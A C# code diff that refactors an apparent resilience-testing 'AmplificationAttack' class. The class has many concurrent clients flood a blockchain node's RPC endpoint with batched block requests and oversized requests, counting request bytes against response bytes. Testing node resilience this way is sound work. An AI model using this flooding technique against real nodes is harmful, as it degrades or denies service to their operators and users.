@@ -38,17 +38,16 @@ public sealed class AmplificationAttack : Attack
         var notes = new List<string>();
         var large = LargeRequest();
 
-        async Task BlockClientAsync()
+        // One client: sends what step sends, over and over, counting bytes both ways.
+        async Task ClientAsync(Func<RawRpc, Task<(long Sent, long Read)>> step)
         {
             using var rpc = new RawRpc(target.RpcUrl, TimeSpan.FromSeconds(60));
             while (!stop.IsCancellationRequested)
             {
                 try
                 {
-                    var best = (await rpc.CallAsync("chain_getHeader", [], stop)).GetProperty("hash").GetString()!;
-                    var body = BlockBatch(best);
-                    var read = await rpc.PostCountingAsync(body, stop);
-                    Interlocked.Add(ref requestBytes, body.Length);
+                    var (sent, read) = await step(rpc);
+                    Interlocked.Add(ref requestBytes, sent);
                     Interlocked.Add(ref responseBytes, read);
                     Interlocked.Increment(ref requests);
                 }
@@ -65,30 +64,14 @@ public sealed class AmplificationAttack : Attack
             }
         }
 
-        async Task LargeClientAsync()
+        async Task<(long, long)> LatestBlockBatchAsync(RawRpc rpc)
         {
-            using var rpc = new RawRpc(target.RpcUrl, TimeSpan.FromSeconds(60));
-            while (!stop.IsCancellationRequested)
-            {
-                try
-                {
-                    var read = await rpc.PostCountingAsync(large, stop);
-                    Interlocked.Add(ref requestBytes, large.Length);
-                    Interlocked.Add(ref responseBytes, read);
-                    Interlocked.Increment(ref requests);
-                }
-                catch (RawRpcException e)
-                {
-                    Note(e.Message);
-                    Interlocked.Increment(ref failures);
-                    await PauseAsync(TimeSpan.FromMilliseconds(100), stop);
-                }
-                catch (OperationCanceledException)
-                {
-                    break;
-                }
-            }
+            var best = (await rpc.CallAsync("chain_getHeader", [], stop)).GetProperty("hash").GetString()!;
+            var body = BlockBatch(best);
+            return (body.Length, await rpc.PostCountingAsync(body, stop));
         }
+
+        async Task<(long, long)> LargeRequestAsync(RawRpc rpc) => (large.Length, await rpc.PostCountingAsync(large, stop));
 
         void Note(string message)
         {
@@ -101,14 +84,18 @@ public sealed class AmplificationAttack : Attack
             }
         }
 
-        var clients = Enumerable.Range(0, BlockClients).Select(_ => BlockClientAsync())
-            .Concat(Enumerable.Range(0, LargeRequestClients).Select(_ => LargeClientAsync()))
+        var clients = Enumerable.Range(0, BlockClients).Select(_ => ClientAsync(LatestBlockBatchAsync))
+            .Concat(Enumerable.Range(0, LargeRequestClients).Select(_ => ClientAsync(LargeRequestAsync)))
             .ToArray();
         await Task.WhenAll(clients);
         var filled = await filling;
         return new AttackReport(Name, new Dictionary<string, long>
         {
-            ["requests"] = requests, ["request_bytes"] = requestBytes, ["response_bytes"] = responseBytes, ["failures"] = failures, ["filler_transfers"] = filled,
+            ["requests"] = requests,
+            ["request_bytes"] = requestBytes,
+            ["response_bytes"] = responseBytes,
+            ["failures"] = failures,
+            ["filler_transfers"] = filled,
         }, notes);
     }
 
